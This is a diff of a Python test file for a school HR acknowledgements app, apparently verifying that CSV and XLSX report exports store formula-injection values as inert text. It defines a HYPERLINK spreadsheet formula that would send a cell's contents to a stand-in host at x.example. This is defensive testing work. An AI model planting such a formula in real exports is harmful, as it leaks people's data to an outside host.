@@ -15,6 +15,7 @@ from openpyxl import load_workbook
 
 from acknowledgements.services import sync_obligations
 from tests.factories import PersonFactory, published_policy, sign_off_rule
+from tests.reports.exporting import prepared_export
 
 LEAK = '=HYPERLINK("http://x.example/?leak="&B2,"Click me")'
 
@@ -43,8 +44,7 @@ def test_trust_hr_csv_export_shows_a_formula_as_text(world, signed_in, planted):
 
 
 def test_trust_hr_xlsx_export_holds_text_not_a_formula(world, signed_in, planted):
-    response = signed_in(world.trust_hr).get(reverse("reports:export", args=["xlsx"]))
-    sheet = load_workbook(io.BytesIO(response.content)).active
+    sheet = load_workbook(io.BytesIO(prepared_export(signed_in(world.trust_hr), "xlsx"))).active
     row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == "leak@school.example")
     assert row[0].data_type == "s" and row[0].value == f"'{LEAK} @Lee"
     assert row[4].data_type == "s" and row[4].value == "'+Email Policy"
